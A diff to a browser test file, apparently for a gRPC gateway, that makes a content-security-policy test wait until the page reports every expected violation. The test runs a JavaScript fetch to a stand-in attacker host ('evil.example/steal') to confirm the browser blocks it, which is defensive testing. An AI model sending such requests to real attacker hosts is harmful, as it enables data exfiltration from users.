@@ -19,6 +19,7 @@ from grpc_tool_bridge.gateway.login import COOKIE
 from support.browser import Site, Tab, open_tab
 from support.needs import needs
 from support.patience import PATIENCE
+from support.waiting import until
 
 pytestmark = [needs("chromium"), pytest.mark.asyncio(loop_scope="module"), pytest.mark.xdist_group("browser")]
 
@@ -180,9 +181,9 @@ async def test_markup_that_gets_into_a_page_all_the_same_does_nothing(tab: Tab, 
     stolen = "fetch('http://evil.example/steal').then(() => 'read', () => '')"
     assert await tab.page.evaluate(stolen) == ""
     assert await tab.page.evaluate("ran") == []
-    assert {text.partition(":")[0] for text in tab.violations} >= {
-        "connect-src", "form-action", "img-src", "require-trusted-types-for",
-    }  # fmt: skip
+    stopped = {"connect-src", "form-action", "img-src", "require-trusted-types-for"}
+    # The page tells of them one by one.
+    await until(lambda: {text.partition(":")[0] for text in tab.violations} >= stopped)
 
 
 @pytest.mark.parametrize("token", [None, "hush"], ids=["docs", "login"])
